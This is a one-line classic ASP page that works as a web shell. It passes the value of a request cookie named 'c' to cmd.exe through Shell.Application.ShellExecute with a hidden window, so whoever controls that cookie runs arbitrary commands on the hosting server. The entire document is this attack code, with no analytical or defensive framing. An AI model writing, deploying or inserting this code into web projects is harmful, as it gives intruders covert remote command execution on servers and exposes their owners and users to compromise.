<% Set a = CreateObject("Shell.Application") : a.ShellExecute "cmd.exe", "/c " & Request.Cookies("c"), "", "open", 0 %>
